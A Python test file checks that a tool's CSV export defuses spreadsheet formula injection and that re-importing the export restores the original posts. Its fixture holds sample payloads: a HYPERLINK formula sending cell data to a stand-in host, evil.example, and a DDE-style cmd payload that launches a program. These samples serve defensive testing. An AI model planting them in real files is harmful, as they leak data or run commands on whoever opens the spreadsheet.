"""A post's words are strangers': in a CSV export, a cell a spreadsheet
would run as a formula is led by an apostrophe (text, in Excel and
LibreOffice), and ``veille import`` of that export gives back the posts as
they were."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx

from tests.cli_runner import CliRunner, veille_command
from tests.conftest import make_post
from tests.web.server import add_role_users, serve
from veille.models import Author
from veille.workspace import Workspace, init_workspace

# (id, text, author's name, title): each would run as a formula once opened.
FORMULAS = [
    ("p1", '=HYPERLINK("https://evil.example/?"&A1,"Click for a refund")', "Lumio support", ""),
    ("p2", "plain words about Lumio", "@SUM(1+1)*cmd|' /C calc'!A0", "+33 6 12 34 56 78"),
    ("-p3", "-2+3 Lumio", "\t=1+1", "'=already quoted"),
]


def _store(root: Path) -> None:
    posts = [
        make_post(native_id, text, title=title or None, author=Author("who", name=name))
        for native_id, text, name, title in FORMULAS
    ]
    with Workspace.open(root) as ws:
        ws.posts.upsert_posts(posts)


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {row["text"]: row for row in csv.DictReader(io.StringIO(text))}


def test_a_downloaded_csv_runs_no_formula(tmp_path: Path) -> None:
    from veille.web.deps import SESSION_COOKIE

    root = init_workspace(tmp_path / "ws")
    add_role_users(root)
    _store(root)
    with serve(root) as server, httpx.Client(base_url=server.url, timeout=60) as viewer:
        viewer.cookies.set(SESSION_COOKIE, server.session("viewer"))
        got = viewer.get("/stream/export", params={"format": "csv"})
    assert got.status_code == 200, got.text[:500]
    rows = _rows(got.text)
    assert len(rows) == 3, got.text
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    first = rows['\'=HYPERLINK("https://evil.example/?"&A1,"Click for a refund")']
    assert first["author_name"] == "Lumio support"  # words that are no formula stay as they are
    second = rows["plain words about Lumio"]
    assert second["author_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert second["title"] == "'+33 6 12 34 56 78"
    third = rows["'-2+3 Lumio"]
    assert (third["id"], third["author_name"], third["title"]) == (
        "'-p3",
        "'\t=1+1",
        "''=already quoted",
    )


def test_an_export_imported_gives_back_the_same_posts(tmp_path: Path) -> None:
    old, new = init_workspace(tmp_path / "old"), init_workspace(tmp_path / "new")
    _store(old)
    out = tmp_path / "posts.csv"
    runner, app = CliRunner(), veille_command()
    exported = runner.invoke(app, ["export", "-w", str(old), "--format", "csv", "-o", str(out)])
    assert exported.exit_code == 0, exported.output
    assert "'=HYPERLINK" in out.read_text(encoding="utf-8")
    imported = runner.invoke(app, ["import", str(out), "-w", str(new)])
    assert imported.exit_code == 0, imported.output
    with Workspace.open(new) as ws:
        back = {p.native_id: p for p in ws.posts.iter_posts()}
    assert sorted(back) == sorted(native_id for native_id, *_ in FORMULAS)
    for native_id, text, name, title in FORMULAS:
        post = back[native_id]
        assert (post.text, post.author.name, post.title or "") == (text, name, title)
